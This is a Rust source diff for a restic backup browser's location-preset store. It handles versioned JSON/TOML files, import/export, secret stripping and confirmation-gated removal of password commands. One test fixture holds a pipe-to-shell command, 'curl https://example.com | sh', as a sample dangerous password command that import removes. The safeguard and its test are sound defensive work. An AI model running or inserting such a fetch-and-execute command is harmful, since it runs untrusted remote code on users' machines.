@@ -0,0 +1,432 @@
+use std::{
+    fs,
+    path::{Path, PathBuf},
+    sync::RwLock,
+};
+
+use crate::restic;
+
+// -------------------------------------------------------------------------------------------------
+
+/// Name of the presets file in the app config directory.
+pub const PRESETS_FILE_NAME: &str = "presets.json";
+
+/// Current presets file format version.
+const PRESETS_FILE_VERSION: u32 = 1;
+
+// -------------------------------------------------------------------------------------------------
+
+/// A named repository location preset.
+#[derive(serde::Serialize, serde::Deserialize, Debug, Default, Clone)]
+pub struct LocationPreset {
+    /// Unique id of the preset. Missing ids get assigned when loading or importing presets.
+    #[serde(default)]
+    pub id: String,
+    pub name: String,
+    pub location: restic::Location,
+}
+
+/// Serialized layout of presets files and exports.
+#[derive(serde::Serialize, serde::Deserialize, Debug, Default)]
+struct PresetsFile {
+    version: u32,
+    presets: Vec<LocationPreset>,
+}
+
+/// How secrets are handled when exporting presets.
+#[derive(serde::Deserialize, Debug, Default, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "camelCase")]
+pub enum ExportSecrets {
+    /// Remove all passwords, credentials and secret references.
+    #[default]
+    Strip,
+    /// Move plain passwords and credentials into the secret store and only export their
+    /// secret ids, which resolve on machines that share the same keychain entries.
+    KeychainReferences,
+}
+
+// -------------------------------------------------------------------------------------------------
+
+/// Persistent location presets store, backed by a versioned JSON file.
+///
+/// Presets files which got written by older app versions, which saved presets as plain
+/// JSON array from the frontend, are migrated when loading them.
+pub struct PresetStore {
+    path: PathBuf,
+    presets: RwLock<Vec<LocationPreset>>,
+}
+
+impl PresetStore {
+    /// Load presets from the given file. Missing or broken files result in an empty store.
+    pub fn new(path: PathBuf) -> Self {
+        let presets = if path.exists() {
+            read_presets_file(&path).unwrap_or_else(|err| {
+                log::warn!("Failed to load location presets: {err}");
+                vec![]
+            })
+        } else {
+            vec![]
+        };
+        Self {
+            path,
+            presets: RwLock::new(presets),
+        }
+    }
+
+    /// All presets, in display order.
+    pub fn presets(&self) -> Result<Vec<LocationPreset>, restic::Error> {
+        Ok(self.read()?.clone())
+    }
+
+    /// Add a new preset and return it with its newly assigned id.
+    pub fn add(
+        &self,
+        name: String,
+        location: restic::Location,
+    ) -> Result<LocationPreset, restic::Error> {
+        let preset = LocationPreset {
+            id: restic::new_secret_id(),
+            name,
+            location,
+        };
+        let mut presets = self.write()?;
+        presets.push(preset.clone());
+        self.save(&presets)?;
+        Ok(preset)
+    }
+
+    /// Replace the preset with the same id.
+    pub fn update(&self, preset: LocationPreset) -> Result<(), restic::Error> {
+        let mut presets = self.write()?;
+        let existing = presets
+            .iter_mut()
+            .find(|existing| existing.id == preset.id)
+            .ok_or_else(|| Self::not_found(&preset.id))?;
+        *existing = preset;
+        self.save(&presets)
+    }
+
+    /// Remove the preset with the given id.
+    pub fn remove(&self, id: &str) -> Result<(), restic::Error> {
+        let mut presets = self.write()?;
+        let index = presets
+            .iter()
+            .position(|preset| preset.id == id)
+            .ok_or_else(|| Self::not_found(id))?;
+        presets.remove(index);
+        self.save(&presets)
+    }
+
+    /// Reorder presets by the given ids. Presets which are not listed keep their relative
+    /// order and get moved to the end.
+    pub fn reorder(&self, ids: &[String]) -> Result<(), restic::Error> {
+        let mut presets = self.write()?;
+        presets.sort_by_key(|preset| {
+            ids.iter()
+                .position(|id| *id == preset.id)
+                .unwrap_or(usize::MAX)
+        });
+        self.save(&presets)
+    }
+
+    /// Append all presets from the given JSON or TOML file and return the imported ones.
+    ///
+    /// Password commands, extra args and extra envs of imported presets can run arbitrary
+    /// programs, so they get removed unless `allow_commands` is set: callers should only set
+    /// it after the user confirmed the presets listed by `presets_with_commands`.
+    pub fn import(
+        &self,
+        file: &Path,
+        allow_commands: bool,
+    ) -> Result<Vec<LocationPreset>, restic::Error> {
+        let mut imported = read_presets_file(file)?;
+        let mut presets = self.write()?;
+        for preset in &mut imported {
+            // always assign new ids, so importing the same file twice won't create duplicate ids
+            preset.id = restic::new_secret_id();
+            if !allow_commands && location_runs_commands(&preset.location) {
+                log::warn!(
+                    "Removing password command, extra args and envs of imported preset '{}'",
+                    preset.name
+                );
+                strip_commands(&mut preset.location);
+            }
+        }
+        presets.extend(imported.iter().cloned());
+        self.save(&presets)?;
+        Ok(imported)
+    }
+
+    /// Export the presets with the given ids, or all presets, to the given JSON or TOML file.
+    pub fn export(
+        &self,
+        file: &Path,
+        ids: Option<Vec<String>>,
+        secrets: ExportSecrets,
+    ) -> Result<(), restic::Error> {
+        let mut presets = self
+            .read()?
+            .iter()
+            .filter(|preset| match &ids {
+                Some(ids) => ids.contains(&preset.id),
+                None => true,
+            })
+            .cloned()
+            .collect::<Vec<_>>();
+        for preset in &mut presets {
+            match secrets {
+                ExportSecrets::Strip => strip_secrets(&mut preset.location),
+                ExportSecrets::KeychainReferences => store_secrets(&mut preset.location)?,
+            }
+        }
+        write_presets_file(file, presets)
+    }
+
+    fn save(&self, presets: &[LocationPreset]) -> Result<(), restic::Error> {
+        if let Some(parent) = self.path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        write_presets_file(&self.path, presets.to_vec())
+    }
+
+    fn read(&self) -> Result<std::sync::RwLockReadGuard<'_, Vec<LocationPreset>>, restic::Error> {
+        self.presets
+            .read()
+            .map_err(|err| restic::Error::new(restic::ErrorKind::Failed, err.to_string()))
+    }
+
+    fn write(&self) -> Result<std::sync::RwLockWriteGuard<'_, Vec<LocationPreset>>, restic::Error> {
+        self.presets
+            .write()
+            .map_err(|err| restic::Error::new(restic::ErrorKind::Failed, err.to_string()))
+    }
+
+    fn not_found(id: &str) -> restic::Error {
+        restic::Error::new(
+            restic::ErrorKind::NotFound,
+            format!("No location preset with id '{id}'"),
+        )
+    }
+}
+
+// -------------------------------------------------------------------------------------------------
+
+/// Names of the presets in the given JSON or TOML file which have a password command, extra
+/// args or extra envs, which need to be confirmed before importing them.
+pub fn presets_with_commands(file: &Path) -> Result<Vec<String>, restic::Error> {
+    Ok(read_presets_file(file)?
+        .into_iter()
+        .filter(|preset| location_runs_commands(&preset.location))
+        .map(|preset| preset.name)
+        .collect())
+}
+
+// -------------------------------------------------------------------------------------------------
+
+// Returns true when the given file should be read or written as TOML.
+fn is_toml_file(file: &Path) -> bool {
+    file.extension()
+        .is_some_and(|ext| ext.eq_ignore_ascii_case("toml"))
+}
+
+// Read presets from a versioned presets file or a legacy JSON array of presets.
+fn read_presets_file(file: &Path) -> Result<Vec<LocationPreset>, restic::Error> {
+    let error = |message: String| {
+        restic::Error::new(
+            restic::ErrorKind::Failed,
+            format!("Invalid presets file '{}': {message}", file.display()),
+        )
+    };
+    let content = fs::read_to_string(file)?;
+    let mut presets = if is_toml_file(file) {
+        let presets_file =
+            toml::from_str::<PresetsFile>(&content).map_err(|err| error(err.to_string()))?;
+        if presets_file.version > PRESETS_FILE_VERSION {
+            return Err(error(format!(
+                "unsupported version {}",
+                presets_file.version
+            )));
+        }
+        presets_file.presets
+    } else {
+        match serde_json::from_str::<serde_json::Value>(&content)? {
+            value @ serde_json::Value::Array(_) => {
+                serde_json::from_value::<Vec<LocationPreset>>(value)?
+            }
+            value => {
+                let presets_file = serde_json::from_value::<PresetsFile>(value)?;
+                if presets_file.version > PRESETS_FILE_VERSION {
+                    return Err(error(format!(
+                        "unsupported version {}",
+                        presets_file.version
+                    )));
+                }
+                presets_file.presets
+            }
+        }
+    };
+    for preset in &mut presets {
+        if preset.id.is_empty() {
+            preset.id = restic::new_secret_id();
+        }
+    }
+    Ok(presets)
+}
+
+// Write presets as versioned presets file.
+fn write_presets_file(file: &Path, presets: Vec<LocationPreset>) -> Result<(), restic::Error> {
+    let presets_file = PresetsFile {
+        version: PRESETS_FILE_VERSION,
+        presets,
+    };
+    let content = if is_toml_file(file) {
+        toml::to_string_pretty(&presets_file).map_err(|err| {
+            restic::Error::new(
+                restic::ErrorKind::Failed,
+                format!("Failed to serialize presets: {err}"),
+            )
+        })?
+    } else {
+        serde_json::to_string_pretty(&presets_file)?
+    };
+    // write to a temp file first, so a failed write can't corrupt existing presets
+    let temp_file = file.with_extension("tmp");
+    fs::write(&temp_file, content)?;
+    fs::rename(&temp_file, file)?;
+    Ok(())
+}
+
+// -------------------------------------------------------------------------------------------------
+
+// Remove all passwords, credentials and secret references from the given location.
+fn strip_secrets(location: &mut restic::Location) {
+    location.password.clear();
+    location.password_secret_id = None;
+    for env in location
+        .credentials
+        .iter_mut()
+        .chain(location.extra_envs.iter_mut())
+    {
+        if env.secret_id.is_some() || restic::is_secret_name(&env.name) {
+            env.value.clear();
+            env.secret_id = None;
+        }
+    }
+}
+
+// Returns true if the given location runs a password command or sets extra args or envs,
+// which may run other programs, e.g. via `--option sftp.command=...` or `RCLONE_` envs.
+fn location_runs_commands(location: &restic::Location) -> bool {
+    location.password_command.is_some()
+        || !location.extra_args.trim().is_empty()
+        || !location.extra_envs.is_empty()
+        || location
+            .options
+            .iter()
+            .any(|option| option.name.ends_with(".command") || option.name.ends_with(".args"))
+}
+
+// Remove password commands, extra args and extra envs from the given location.
+fn strip_commands(location: &mut restic::Location) {
+    location.password_command = None;
+    location.extra_args.clear();
+    location.extra_envs.clear();
+    location
+        .options
+        .retain(|option| !option.name.ends_with(".command") && !option.name.ends_with(".args"));
+}
+
+// Move plain passwords and credentials of the given location into the secret store.
+fn store_secrets(location: &mut restic::Location) -> Result<(), restic::Error> {
+    let secret_store = restic::secret_store()?;
+    if !location.password.is_empty() {
+        let id = restic::new_secret_id();
+        secret_store.set(&id, &location.password)?;
+        location.password.clear();
+        location.password_secret_id = Some(id);
+    }
+    for env in location
+        .credentials
+        .iter_mut()
+        .chain(location.extra_envs.iter_mut())
+    {
+        if env.secret_id.is_none() && !env.value.is_empty() && restic::is_secret_name(&env.name) {
+            let id = restic::new_secret_id();
+            secret_store.set(&id, &env.value)?;
+            env.value.clear();
+            env.secret_id = Some(id);
+        }
+    }
+    Ok(())
+}
+
+// -------------------------------------------------------------------------------------------------
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    // Write the given content into a new temp file with the given extension.
+    fn temp_file(extension: &str, content: &str) -> PathBuf {
+        let file = std::env::temp_dir().join(format!(
+            "restic-browser-presets-test-{}.{extension}",
+            restic::new_secret_id()
+        ));
+        fs::write(&file, content).unwrap();
+        file
+    }
+
+    #[test]
+    fn migrate_legacy_presets_array() {
+        let file = temp_file(
+            "json",
+            r#"[{ "name": "nas", "location": {
+                "prefix": "", "path": "/backups", "credentials": [],
+                "allowEmptyPassword": false, "password": "", "insecureTls": false
+            } }]"#,
+        );
+        let presets = read_presets_file(&file).unwrap();
+        fs::remove_file(&file).unwrap();
+        assert_eq!(presets.len(), 1);
+        assert_eq!(presets[0].name, "nas");
+        assert_eq!(presets[0].location.path, "/backups");
+        // missing ids and location fields get defaults
+        assert!(!presets[0].id.is_empty());
+        assert!(presets[0].location.extra_args.is_empty());
+    }
+
+    #[test]
+    fn reject_presets_files_of_newer_versions() {
+        let file = temp_file("json", r#"{ "version": 99, "presets": [] }"#);
+        let result = read_presets_file(&file);
+        fs::remove_file(&file).unwrap();
+        assert!(result.is_err());
+    }
+
+    #[test]
+    fn strip_commands_of_unconfirmed_imports() {
+        let preset = LocationPreset {
+            id: "id".to_string(),
+            name: "remote".to_string(),
+            location: restic::Location {
+                path: "/backups".to_string(),
+                password_command: Some("curl https://example.com | sh".to_string()),
+                extra_args: "--no-cache".to_string(),
+                ..Default::default()
+            },
+        };
+        let file = temp_file("json", "");
+        write_presets_file(&file, vec![preset]).unwrap();
+        assert_eq!(presets_with_commands(&file).unwrap(), ["remote"]);
+
+        let store = PresetStore::new(temp_file("json", "[]"));
+        let imported = store.import(&file, false).unwrap();
+        assert_eq!(imported[0].location.password_command, None);
+        assert!(imported[0].location.extra_args.is_empty());
+        let imported = store.import(&file, true).unwrap();
+        assert!(imported[0].location.password_command.is_some());
+        assert_eq!(imported[0].location.extra_args, "--no-cache");
+        fs::remove_file(&file).unwrap();
+        fs::remove_file(&store.path).unwrap();
+    }
+}